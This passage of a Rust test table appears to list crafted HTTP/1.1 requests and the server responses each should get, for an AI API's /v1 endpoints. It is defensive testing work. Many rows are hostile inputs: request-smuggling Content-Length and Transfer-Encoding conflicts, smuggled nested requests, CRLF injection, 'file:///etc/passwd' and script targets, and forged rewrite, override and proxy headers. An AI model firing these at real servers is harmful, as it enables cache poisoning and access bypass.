//! The rows: what the standards single out, and what has been used against servers before.

use super::{BAD, Case, Kept, Last, Refused, Told, Unserved, Want, body, case, post};

/// All rows.
pub(super) fn all() -> Vec<Case> {
    [of_messages(), keys(), steering(), paths()].concat()
}

/// Those that say the same of any server: whom it serves, and what, makes no difference.
pub(super) fn of_messages() -> Vec<Case> {
    [
        first_lines(),
        hosts(),
        fields(),
        lengths(),
        codings(),
        chunks(),
        options(),
    ]
    .concat()
}

/// A request for the list of models with `line` as its first line.
fn with_line(line: &str) -> String {
    format!("{line}\r\nhost: a\r\nauthorization: Bearer KEY\r\n\r\n")
}

/// The same with `fields`, each with its line ending.
fn with_fields(fields: &str) -> String {
    format!("GET /v1/models HTTP/1.1\r\nhost: a\r\nauthorization: Bearer KEY\r\n{fields}\r\n")
}

fn table(group: &str, rows: &[(&str, Want)], request: impl Fn(&str) -> String) -> Vec<Case> {
    let made = rows.iter().map(|(text, want)| {
        case(
            format!(
                "{group} {}",
                text.chars().take(80).collect::<String>().escape_debug()
            ),
            request(text),
            *want,
        )
    });
    made.collect()
}

fn first_lines() -> Vec<Case> {
    let ok = "GET /v1/models HTTP/1.1";
    let long = format!("GET /{} HTTP/1.1", "a".repeat(7_900));
    let longer = format!("GET /{} HTTP/1.1", "a".repeat(9_000));
    let longest = format!("GET /{} HTTP/1.1", "a".repeat(70_000));
    let method = format!("{} /v1/models HTTP/1.1", "M".repeat(10_000));
    let mut cases = table(
        "first line",
        &[
            (ok, Kept(&[200])),
            ("", BAD),
            (" ", BAD),
            ("GET", BAD),
            ("GET ", BAD),
            ("GET /v1/models", BAD),
            ("GET /v1/models ", BAD),
            ("GET /v1/models HTTP", BAD),
            ("GET /v1/models HTTP/", BAD),
            ("GET /v1/models HTTP/1", BAD),
            ("GET /v1/models HTTP/1.", BAD),
            ("GET /v1/models HTTP/.1", BAD),
            ("GET /v1/models HTTP/11", BAD),
            ("GET /v1/models HTTP/1.1.1", BAD),
            ("GET /v1/models HTTP/1.10", BAD),
            ("GET /v1/models HTTP/01.1", BAD),
            ("GET /v1/models HTTP/+1.1", BAD),
            ("GET /v1/models HTTP/-1.1", BAD),
            ("GET /v1/models HTTP/1,1", BAD),
            ("GET /v1/models http/1.1", BAD),
            ("GET /v1/models Http/1.1", BAD),
            ("GET /v1/models HTTPS/1.1", BAD),
            ("GET /v1/models ICY/1.1", BAD),
            ("GET /v1/models HTTP 1.1", BAD),
            ("GET /v1/models HTTP/0.9", Refused(&[400, 505])),
            ("GET /v1/models HTTP/2.0", Refused(&[400, 505])),
            ("GET /v1/models HTTP/2", BAD),
            ("GET /v1/models HTTP/3.0", Refused(&[400, 505])),
            ("GET /v1/models HTTP/9.9", Refused(&[400, 505])),
            ("GET /v1/models HTTP/1.2", Kept(&[200])),
            ("GET /v1/models HTTP/1.1 ", BAD),
            ("GET /v1/models HTTP/1.1 HTTP/1.1", BAD),
            ("GET /v1/models /v1/models HTTP/1.1", BAD),
            ("GET  /v1/models HTTP/1.1", BAD),
            ("GET /v1/models  HTTP/1.1", BAD),
            ("GET\t/v1/models\tHTTP/1.1", BAD),
            ("GET\t/v1/models HTTP/1.1", BAD),
            (" GET /v1/models HTTP/1.1", BAD),
            ("\tGET /v1/models HTTP/1.1", BAD),
            ("\0GET /v1/models HTTP/1.1", BAD),
            ("\u{feff}GET /v1/models HTTP/1.1", BAD),
            ("/v1/models HTTP/1.1", BAD),
            ("HTTP/1.1 200 OK", BAD),
            ("GET v1/models HTTP/1.1", BAD),
            ("GET * HTTP/1.1", BAD),
            ("GET ? HTTP/1.1", BAD),
            ("GET # HTTP/1.1", BAD),
            ("GET /v1/models#x HTTP/1.1", BAD),
            ("GET a HTTP/1.1", BAD),
            ("GET a:443 HTTP/1.1", BAD),
            ("GET ftp://a/v1/models HTTP/1.1", BAD),
            ("GET file:///etc/passwd HTTP/1.1", BAD),
            ("GET javascript:alert(1) HTTP/1.1", BAD),
            ("GET http:/v1/models HTTP/1.1", BAD),
            ("GET http:///v1/models HTTP/1.1", BAD),
            ("GET http:// HTTP/1.1", BAD),
            ("GET http://b/v1/models HTTP/1.1", Kept(&[200])),
            ("GET http://a:80/v1/models HTTP/1.1", Kept(&[200])),
            ("GET http://u@a/v1/models HTTP/1.1", BAD),
            ("GET http://u:p@a/v1/models HTTP/1.1", BAD),
            ("GET http://a:99999/v1/models HTTP/1.1", BAD),
            ("GET http://a b/v1/models HTTP/1.1", BAD),
            ("GET http://[::1/v1/models HTTP/1.1", BAD),
            ("GET http://a/v1/models HTTP/1.1", Kept(&[200])),
            ("GET HTTP://A/v1/models HTTP/1.1", Kept(&[200])),
            ("OPTIONS * HTTP/1.1", Kept(&[200, 204, 404, 405])),
            ("OPTIONS /v1/models HTTP/1.1", Kept(&[200, 204, 404, 405])),
            ("get /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("Get /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("GETT /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("FOO /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("TRACE /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("TRACK /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("DEBUG /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("PROPFIND /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("PRI * HTTP/1.1", BAD),
            ("PRI /v1/models HTTP/1.1", Kept(&[405, 501])),
            ("DELETE /v1/models HTTP/1.1", Kept(&[404, 405])),
            ("CONNECT a:443 HTTP/1.1", Refused(&[400, 405, 501])),
            ("CONNECT /v1/models HTTP/1.1", BAD),
            ("CONNECT http://a/ HTTP/1.1", Refused(&[400, 405, 501])),
            ("G@T /v1/models HTTP/1.1", BAD),
            ("G(E)T /v1/models HTTP/1.1", BAD),
            ("GET,POST /v1/models HTTP/1.1", BAD),
            ("G\0T /v1/models HTTP/1.1", BAD),
            ("GÉT /v1/models HTTP/1.1", BAD),
            ("GET /v1/models\0 HTTP/1.1", BAD),
            ("GET /v1/mödels HTTP/1.1", BAD),
            ("GET /v1/models\u{202e} HTTP/1.1", BAD),
            ("GET /v1\\models HTTP/1.1", BAD),
            ("GET /<script> HTTP/1.1", BAD),
            ("GET /v1/models\r HTTP/1.1", BAD),
            ("GET /v1/models HTTP/1.1\r", BAD),
            ("GET /v1/models\u{b}HTTP/1.1", BAD),
            ("GET /v1/models\u{a0}HTTP/1.1", BAD),
            (&long, Kept(&[404])),
            (&longer, Refused(&[414])),
            (&longest, Refused(&[414])),
            (&method, Refused(&[400, 414, 501])),
        ],
        with_line,
    );
    let with = with_line(ok);
    cases.extend([
        case("one empty line before", format!("\r\n{with}"), Kept(&[200])),
        case(
            "two empty lines before",
            format!("\r\n\r\n{with}"),
            Unserved,
        ),
        case("a bare LF before", format!("\n{with}"), BAD),
        case("a bare CR before", format!("\r{with}"), BAD),
        case("bare LF everywhere", with.replace('\r', ""), BAD),
        case("bare CR everywhere", with.replace('\n', ""), BAD),
        case("LF CR", with.replace("\r\n", "\n\r"), BAD),
        case("CR CR LF", with.replace("\r\n", "\r\r\n"), BAD),
        case("HTTP/0.9", "GET /v1/models\r\n", BAD),
        case(
            "TLS to a plain port",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n".as_slice(),
            BAD,
        ),
        case(
            "an older TLS",
            b"\x80\x2e\x01\x03\x01\x00\x15\r\n\r\n".as_slice(),
            BAD,
        ),
        case("SSH", "SSH-2.0-OpenSSH_9.2\r\n\r\n", BAD),
        case(
            "PROXY",
            format!("PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n{with}"),
            BAD,
        ),
        case("SOCKS", b"\x05\x01\x00\r\n\r\n".as_slice(), BAD),
        case("zeros", vec![0; 100], BAD),
        case("noise", (0..=255).collect::<Vec<u8>>(), BAD),
        case(
            "HTTP/2's preface, spoilt",
            "PRI * HTTP/2.0\r\n\r\nSX\r\n\r\n",
            Refused(&[400, 405, 505]),
        ),
        case("HTTP/1.0", with.replace("/1.1", "/1.0"), Last(200)),
        case(
            "HTTP/1.0 without a host",
            "GET / HTTP/1.0\r\n\r\n",
            Last(200),
        ),
    ]);
    cases
}

fn hosts() -> Vec<Case> {
    let long = format!("{}.example", "a".repeat(300));
    let rows = [
        ("a", Kept(&[200])),
        ("a.example", Kept(&[200])),
        ("A.Example", Kept(&[200])),
        ("a:80", Kept(&[200])),
        ("a:65535", Kept(&[200])),
        ("127.0.0.1", Kept(&[200])),
        ("[::1]", Kept(&[200])),
        ("[::1]:80", Kept(&[200])),
        ("", BAD),
        ("  ", BAD),
        (":", BAD),
        (":80", BAD),
        ("a:x", BAD),
        ("a:-1", BAD),
        ("a:+1", BAD),
        ("a:65536", BAD),
        ("a:99999999999999999999", BAD),
        ("a:80:80", BAD),
        ("a:80 ", Kept(&[200])),
        ("a b", BAD),
        ("a\tb", BAD),
        ("a,b", BAD),
        ("a, b", BAD),
        ("a;b", BAD),
        ("a/", BAD),
        ("a/b", BAD),
        ("a\\b", BAD),
        ("a?b", BAD),
        ("a#b", BAD),
        ("u@a", BAD),
        ("u:p@a", BAD),
        ("@a", BAD),
        ("http://a", BAD),
        ("//a", BAD),
        ("[::1", BAD),
        ("::1]", BAD),
        ("::1", BAD),
        ("[]", BAD),
        ("[::g]", BAD),
        ("[::1]a", BAD),
        ("[::1]:x", BAD),
        ("[1.2.3.4]", BAD),
        ("[fe80::1%eth0]", BAD),
        ("[::1]]", BAD),
        ("a\0b", BAD),
        ("a%00b", BAD),
        ("a%0d%0ab", BAD),
        ("<a>", BAD),
        ("\"a\"", BAD),
        ("{a}", BAD),
        ("a|b", BAD),
        ("a^b", BAD),
        ("ä.example", BAD),
        ("localhost\u{7f}", BAD),
        (&long, Kept(&[200, 400])),
    ];
    let mut cases = table("host", &rows, |host| {
        format!("GET /v1/models HTTP/1.1\r\nhost: {host}\r\nauthorization: Bearer KEY\r\n\r\n")
    });
    let rows = [
        ("", BAD),
        ("host: a\r\nhost: a\r\n", BAD),
        ("host: a\r\nhost: b\r\n", BAD),
        ("host: a\r\nHost: b\r\n", BAD),
        ("host: a\r\nx: y\r\nHOST: b\r\n", BAD),
        ("host : a\r\n", BAD),
        ("host\t: a\r\n", BAD),
        (" host: a\r\n", BAD),
        ("host:\r\n a\r\n", BAD),
        ("host: a\r\n b\r\n", BAD),
        ("host\r\n", BAD),
        ("x-host: a\r\n", BAD),
        ("x-forwarded-host: a\r\n", BAD),
        ("connection: host\r\nhost: a\r\n", Kept(&[200])),
        ("Host:a\r\n", Kept(&[200])),
        ("HOST:\ta\t\r\n", Kept(&[200])),
    ];
    cases.extend(table("host fields", &rows, |fields| {
        format!("GET /v1/models HTTP/1.1\r\n{fields}authorization: Bearer KEY\r\n\r\n")
    }));
    cases
}

fn fields() -> Vec<Case> {
    let many = |count: usize| "x: y\r\n".repeat(count);
    let wide = |length: usize| format!("x: {}\r\n", "y".repeat(length));
    let named = |length: usize| format!("{}: y\r\n", "x".repeat(length));
    let (most, more, flood) = (many(98), many(99), many(5_000));
    let (wide, wider, widest) = (wide(30_000), wide(33_000), wide(100_000));
    let (name, longer, longest) = (named(1_000), named(33_000), named(70_000));
    let rows = [
        ("x: y\r\n", Kept(&[200])),
        ("x:y\r\n", Kept(&[200])),
        ("x:\r\n", Kept(&[200])),
        ("x: \r\n", Kept(&[200])),
        ("x:\t y \t\r\n", Kept(&[200])),
        ("x: a, b, c\r\n", Kept(&[200])),
        ("x: y\r\nx: z\r\n", Kept(&[200])),
        ("x: \"a\\\"b\"\r\n", Kept(&[200])),
        ("x: ä\r\n", Kept(&[200])),
        ("x: y:z\r\n", Kept(&[200])),
        ("!#$%&'*+-.^_`|~: y\r\n", Kept(&[200])),
        ("x\r\n", BAD),
        (": y\r\n", BAD),
        (":\r\n", BAD),
        (" : y\r\n", BAD),
        ("x : y\r\n", BAD),
        ("x\t: y\r\n", BAD),
        ("x y: z\r\n", BAD),
        (" x: y\r\n", BAD),
        ("\tx: y\r\n", BAD),
        ("x: y\r\n z\r\n", BAD),
        ("x: y\r\n\tz\r\n", BAD),
        ("x: y\r\n \r\n", BAD),
        ("x:\r\n y\r\n", BAD),
        ("x: y\n", BAD),
        ("x: y\r\r\n", BAD),
        ("x: y\rz: w\r\n", BAD),
        ("x: y\0\r\n", BAD),
        ("x: \u{1}\r\n", BAD),
        ("x: \u{1b}[31m\r\n", BAD),
        ("x: \u{7f}\r\n", BAD),
        ("x\0: y\r\n", BAD),
        ("x(y): z\r\n", BAD),
        ("x/y: z\r\n", BAD),
        ("x@y: z\r\n", BAD),
        ("x[y]: z\r\n", BAD),
        ("x{y}: z\r\n", BAD),
        ("x\"y: z\r\n", BAD),
        ("x,y: z\r\n", BAD),
        ("x;y: z\r\n", BAD),
        ("x=y: z\r\n", BAD),
        ("ä: z\r\n", BAD),
        ("x: y\r\n\n", BAD),
        ("\r", BAD),
        ("\n", BAD),
        (&most, Kept(&[200])),
        (&more, Refused(&[431])),
        (&flood, Refused(&[431])),
        (&wide, Kept(&[200])),
        (&wider, Refused(&[431])),
        (&widest, Refused(&[431])),
        (&name, Kept(&[200])),
        (&longer, Refused(&[400, 431])),
        (&longest, Refused(&[400, 431])),
        ("expect: 100-continue\r\n", Kept(&[200])),
        ("expect: 200-ok\r\n", Refused(&[417])),
        ("expect: 100-continue, 100-continue\r\n", Refused(&[417])),
        ("expect: 100-continue\r\nexpect: x\r\n", Refused(&[417])),
        ("expect:\r\n", Refused(&[417])),
        (
            "upgrade: h2c\r\nconnection: upgrade, http2-settings\r\nhttp2-settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n",
            Kept(&[200]),
        ),
        (
            "upgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n",
            Kept(&[200]),
        ),
        ("upgrade: TLS/1.0\r\nconnection: upgrade\r\n", Kept(&[200])),
        ("te: trailers\r\nconnection: te\r\n", Kept(&[200])),
        ("trailer: content-length\r\n", Kept(&[200])),
        ("content-encoding: gzip\r\n", Refused(&[415])),
        (
            "content-encoding: identity\r\ncontent-encoding: gzip\r\n",
            Refused(&[415]),
        ),
        ("content-encoding: gzip, identity\r\n", Refused(&[415])),
        ("content-encoding: br\r\n", Refused(&[415])),
        ("content-encoding: deflate, gzip\r\n", Refused(&[415])),
        ("range: bytes=0-\r\n", Kept(&[200])),
        ("range: bytes=0-0,1-1,2-2\r\n", Kept(&[200])),
        ("if-match: *\r\nif-none-match: *\r\n", Kept(&[200])),
        (
            "accept: \u{7e}\r\naccept-encoding: gzip;q=0, *;q=-1\r\n",
            Kept(&[200]),
        ),
        ("cookie: a=b\r\ncookie: c=d\r\n", Kept(&[200])),
        ("x-http-method-override: DELETE\r\n", Kept(&[200])),
        (
            "x-original-url: /api/keys\r\nx-rewrite-url: /api/keys\r\n",
            Kept(&[200]),
        ),
        (
            "forwarded: for=127.0.0.1;host=admin\r\nx-forwarded-for: 127.0.0.1\r\n",
            Kept(&[200]),
        ),
        ("proxy: http://evil.example\r\n", Kept(&[200])),
    ];
    table("fields", &rows, with_fields)
}

fn lengths() -> Vec<Case> {
    let body = body();
    let right = body.len();
    let number = |text: &str| text.replace('N', &right.to_string());
    let rows = [
        (" N", Kept(&[200])),
        ("N", Kept(&[200])),
        ("\tN\t", Kept(&[200])),
        (" 0N", Kept(&[200])),
        (" 0000000000N", Kept(&[200])),
        ("", BAD),
        (" ", BAD),
        (" +N", BAD),
        (" -N", BAD),
        (" -1", BAD),
        (" -0", BAD),
        (" 0xN", BAD),
        (" 0x0", BAD),
        (" N.0", BAD),
        (" N,0", BAD),
        (" Ne0", BAD),
        (" N_", BAD),
        (" N N", BAD),
        (" N,N", BAD),
        (" N, N", BAD),
        (" N,", BAD),
        (" ,N", BAD),
        (" N;", BAD),
        (" N;x=y", BAD),
        (" \"N\"", BAD),
        (" 'N'", BAD),
        (" N\0", BAD),
        (" \0N", BAD),
        (" N\u{b}", BAD),
        (" \u{c}N", BAD),
        (" N\u{a0}", BAD),
        (" ٣", BAD),
        (" １", BAD),
        (" NaN", BAD),
        (" inf", BAD),
        (" chunked", BAD),
        (" 9223372036854775808", BAD),
        (" 18446744073709551615", BAD),
        (" 18446744073709551616", BAD),
        (" 18446744073709551700", BAD),
        (" 99999999999999999999999999999999", BAD),
        (" 4294967296000", Refused(&[413])),
        (" 10485761", Refused(&[413])),
        (" 9223372036854775807", Refused(&[413])),
        ("\r\n N", BAD),
        (" N\r\n N", BAD),
        (" N\r\ncontent-length: N", BAD),
        (" N\r\ncontent-length: 0", BAD),
        (" 0\r\ncontent-length: N", BAD),
        (" N\r\nContent-Length: 1", BAD),
        (" N\r\ncontent-length:", BAD),
        (" N\r\ncontent-length: x", BAD),
        (" N\r\ncontent-length : N", BAD),
        (" N\r\n content-length: 0", BAD),
        (" N\r\ncontent_length: 0", Kept(&[200])),
        (" N\r\nx-content-length: 0", Kept(&[200])),
        (" N\r\nconnection: content-length", Kept(&[200])),
        (" N\r\nconnection: close, content-length", Last(200)),
        (" N\r\nconnection: Content-Length, keep-alive", Kept(&[200])),
        (" N\r\ntransfer-encoding: chunked", BAD),
        (" N\r\ntransfer-encoding: identity", BAD),
        (" N\r\ntransfer-encoding:", BAD),
        (" N\r\ntransfer-encoding: x", BAD),
        (" N\r\ntransfer-encoding : chunked", BAD),
        (" N\r\n transfer-encoding: chunked", BAD),
        (" N\r\ntransfer_encoding: chunked", Kept(&[200])),
        (" N\r\nx: y\ntransfer-encoding: chunked", BAD),
        (" N\r\nx: y\rtransfer-encoding: chunked", BAD),
        (" N\r\nexpect: 100-continue", Kept(&[200])),
        (" N\r\nte: chunked", Kept(&[200])),
    ];
    let mut cases = table("length", &rows, |text| {
        post(&format!("content-length:{}\r\n", number(text)), &body)
    });
    let get = |fields: &str, body: &str| {
        format!(
            "GET /v1/models HTTP/1.1\r\nhost: a\r\nauthorization: Bearer KEY\r\n{fields}\r\n{body}"
        )
    };
    let old = |fields: &str| {
        format!(
            "POST /v1/chat/completions HTTP/1.0\r\nhost: a\r\nauthorization: Bearer KEY\r\n{fields}\r\n{body}"
        )
    };
    let inner = "GET /v1/models HTTP/1.1\r\nhost: a\r\n\r\n";
    cases.extend([
        case("a body of GET", get("content-length: 5\r\n", "hello"), Kept(&[200])),
        case("a body of GET, chunked", get("transfer-encoding: chunked\r\n", "5\r\nhello\r\n0\r\n\r\n"), Kept(&[200])),
        case(
            "a request as the body of GET",
            get(&format!("content-length: {}\r\n", inner.len()), inner),
            Kept(&[200]),
        ),
        case("no length", post("", ""), Kept(&[400, 411])),
        case("a length that is too short", post(&format!("content-length: {}\r\n", right - 1), &body), Unserved),
        case("a length of nothing before a body", post("content-length: 0\r\n", &body), Unserved),
        case("a body nobody declared", post("", &body), Unserved),
        case("HTTP/1.0 with a length", old(&format!("content-length: {right}\r\n")), Last(200)),
        case("HTTP/1.0 without a length", old(""), Last(400)),
        case("HTTP/1.0 in chunks", old("transfer-encoding: chunked\r\n"), BAD),
        case("HTTP/1.0 both ways", old(&format!("content-length: {right}\r\ntransfer-encoding: chunked\r\n")), BAD),
        case(
            "HTTP/1.0 both ways, kept alive",
            old(&format!("connection: keep-alive\r\ntransfer-encoding: chunked\r\ncontent-length: {right}\r\n")),
            BAD,
        ),
    ]);
    cases
}

fn codings() -> Vec<Case> {
    let wrong = Refused(&[400, 501]);
    let rows = [
        (": chunked", Kept(&[200])),
        (":chunked", Kept(&[200])),
        (":\tchunked \t", Kept(&[200])),
        (": Chunked", Kept(&[200])),
        (": CHUNKED", Kept(&[200])),
        (":", wrong),
        (": ", wrong),
        (": identity", wrong),
        (": gzip", wrong),
        (": deflate", wrong),
        (": compress", wrong),
        (": x", wrong),
        (": cow", wrong),
        (": xchunked", wrong),
        (": chunkedx", wrong),
        (": chunke", wrong),
        (": hunked", wrong),
        (": chunked chunked", wrong),
        (": chunked,chunked", wrong),
        (": chunked, chunked", wrong),
        (": chunked, identity", wrong),
        (": identity, chunked", wrong),
        (": gzip, chunked", wrong),
        (": chunked, gzip", wrong),
        (": chunked,", wrong),
        (": ,chunked", wrong),
        (": , chunked", wrong),
        (": chunked;", wrong),
        (": chunked;q=1", wrong),
        (": chunked;foo=bar", wrong),
        (": \"chunked\"", wrong),
        (": 'chunked'", wrong),
        (": chunked\0", wrong),
        (": \0chunked", wrong),
        (": \u{b}chunked", wrong),
        (": chunked\u{b}", wrong),
        (": \u{c}chunked", wrong),
        (": \u{a0}chunked", wrong),
        (": chünked", wrong),
        (": c\u{200b}hunked", wrong),
        (": trailers", wrong),
        (": close", wrong),
        (": chunked\r\ntransfer-encoding: chunked", wrong),
        (": chunked\r\ntransfer-encoding: identity", wrong),
        (": identity\r\ntransfer-encoding: chunked", wrong),
        (": gzip\r\ntransfer-encoding: chunked", wrong),
        (": chunked\r\ntransfer-encoding: gzip", wrong),
        (": chunked\r\nTransfer-Encoding:", wrong),
        (": chunked\r\nTRANSFER-ENCODING: cow", wrong),
        (":\r\n chunked", wrong),
        (": chunked\r\n ", wrong),
        (": chunked\r\n , identity", wrong),
        (": chunked\n", wrong),
        (" : chunked", wrong),
        ("\t: chunked", wrong),
        (": chunked\r\ncontent-length: 0", wrong),
        (": chunked\r\ncontent-length: 5", wrong),
        (": chunked\r\ncontent-length: x", wrong),
        (": chunked\r\ncontent-length:", wrong),
        (": chunked\r\nContent-Length: 3\r\ncontent-length: 3", wrong),
        (": cow\r\ncontent-length: 5", wrong),
        (": chunked\r\nconnection: transfer-encoding", Kept(&[200])),
        (
            ": chunked\r\nconnection: close, transfer-encoding",
            Last(200),
        ),
        (": chunked\r\ntrailer: content-length", Kept(&[200])),
        (": chunked\r\nte: trailers", Kept(&[200])),
        (": chunked\r\nexpect: 100-continue", Kept(&[200])),
    ];
    let body = body();
    let chunks = format!("{:x}\r\n{body}\r\n0\r\n\r\n", body.len());
    let mut cases = table("coding", &rows, |text| {
        post(&format!("transfer-encoding{text}\r\n"), &chunks)
    });
    for name in [
        "transfer_encoding",
        "transfer.encoding",
        "x-transfer-encoding",
        "transferencoding",
    ] {
        let request = post(&format!("{name}: chunked\r\n"), &chunks);
        cases.push(case(format!("{name} is no coding"), request, Unserved));
    }
    cases
}

fn chunks() -> Vec<Case> {
    let body = body();
    let size = body.len();
    let (half, rest) = body.split_at(size / 2);
    let (first, second) = (half.len(), rest.len());
    let wide = format!(";{}", "a".repeat(15_000));
    let wider = format!(";{}", "a".repeat(17_000));
    let trailers = "a: b\r\n".repeat(8_000);
    let bytes: String = body
        .bytes()
        .map(|byte| format!("1\r\n{}\r\n", char::from(byte)))
        .collect();
    let ok = Kept(&[200]);
    let rows: Vec<(String, Want)> = vec![
        (format!("{size:x}\r\n{body}\r\n0\r\n\r\n"), ok),
        (format!("{size:X}\r\n{body}\r\n0\r\n\r\n"), ok),
        (format!("{size:016x}\r\n{body}\r\n0000\r\n\r\n"), ok),
        (
            format!("{first:x}\r\n{half}\r\n{second:x}\r\n{rest}\r\n0\r\n\r\n"),
            ok,
        ),
        (format!("{bytes}0\r\n\r\n"), ok),
        (format!("{size:x};a\r\n{body}\r\n0\r\n\r\n"), ok),
        (
            format!("{size:x};a=b;c=\"d;e\"\r\n{body}\r\n0;f\r\n\r\n"),
            ok,
        ),
        (format!("{size:x} ;a\r\n{body}\r\n0\r\n\r\n"), ok),
        (format!("{size:x}{wide}\r\n{body}\r\n0\r\n\r\n"), ok),
        (
            format!("{size:x}\r\n{body}\r\n0\r\na: b\r\nc: d\r\n\r\n"),
            ok,
        ),
        (
            format!("{size:x}\r\n{body}\r\n0\r\ncontent-length: 5\r\n\r\n"),
            ok,
        ),
        (
            format!("{size:x}\r\n{body}\r\n0\r\ntransfer-encoding: chunked\r\nhost: b\r\n\r\n"),
            ok,
        ),
        (
            format!("{size:x}\r\n{body}\r\n0\r\nauthorization: Bearer x\r\n\r\n"),
            ok,
        ),
        (format!("{size:x}{wider}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\n{trailers}\r\n"), BAD),
        (format!("{size:017x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:0100x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("1{size:016x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("8000000000000000\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("ffffffffffffffff\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("fffffffffffffffe\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("+{size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("-{size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("-1\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("0x{size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("0X{size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}h\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}_\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}.0\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x},{size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x} {size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("\"{size:x}\"\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!(" {size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("\t{size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x} \r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}\t\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}\0\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("\r\n{size:x}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!(";a\r\n{body}\r\n0\r\n\r\n"), BAD),
        ("\r\n\r\n".to_owned(), BAD),
        ("x\r\n\r\n".to_owned(), BAD),
        ("{}\r\n\r\n".to_owned(), BAD),
        (format!("{size:x}\n{body}\n0\n\n"), BAD),
        (format!("{size:x}\r{body}\r0\r\r"), BAD),
        (format!("{size:x}\r\n{body}\n0\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}0\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\n\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\n\r\r\n"), BAD),
        (format!("{size:x}\r\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0 \r\n\r\n"), BAD),
        (format!("{:x}\r\n{body}\r\n0\r\n\r\n", size - 1), BAD),
        (format!("{:x}\r\n{body}\r\n0\r\n\r\n", size + 1), BAD),
        (format!("{size:x};a\nb\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x};a\rb\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x};\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x};a=\"\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x};a=\"\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x};a=\"b\r\n\"\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x};\0\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x};a\u{1}\r\n{body}\r\n0\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\na\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\n: b\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\na b: c\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\na : c\r\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\n a: c\r\n\r\n"), BAD),
        (
            format!("{size:x}\r\n{body}\r\n0\r\na: b\r\n c\r\n\r\n"),
            BAD,
        ),
        (format!("{size:x}\r\n{body}\r\n0\r\na: b\n\r\n"), BAD),
        (format!("{size:x}\r\n{body}\r\n0\r\na: b\0\r\n\r\n"), BAD),
        (
            format!("{size:x}\r\n{body}\r\n0\r\nGET /v1/models HTTP/1.1\r\nhost: a\r\n\r\n"),
            BAD,
        ),
        ("0\r\n\r\n".to_owned(), Kept(&[400])),
        ("0\r\n\r\n0\r\n\r\n".to_owned(), Unserved),
        (
            format!("0\r\n\r\n{size:x}\r\n{body}\r\n0\r\n\r\n"),
            Unserved,
        ),
    ];
    let rows: Vec<(&str, Want)> = rows
        .iter()
        .map(|(text, want)| (text.as_str(), *want))
        .collect();
    table("chunks", &rows, |text| {
        post("transfer-encoding: chunked\r\n", text)
    })
}

/// What `Connection` says, and what it names.
fn options() -> Vec<Case> {
    let rows = [
        ("keep-alive", Kept(&[200])),
        ("Keep-Alive", Kept(&[200])),
        ("", Kept(&[200])),
        (",", Kept(&[200])),
        ("x", Kept(&[200])),
        ("close", Last(200)),
        ("Close", Last(200)),
        ("CLOSE", Last(200)),
        ("close, keep-alive", Last(200)),
        ("keep-alive, close", Last(200)),
        ("x,close", Last(200)),
        (",close,", Last(200)),
        (" close ", Last(200)),
        ("close\r\nconnection: keep-alive", Last(200)),
        ("keep-alive\r\nconnection: close", Last(200)),
        ("host", Kept(&[200])),
        ("x-api-key, cookie", Kept(&[200])),
        ("authorization", Told(&[200, 401])),
        ("connection", Kept(&[200])),
        ("upgrade", Kept(&[200])),
        ("@, \"close\"", Kept(&[200])),
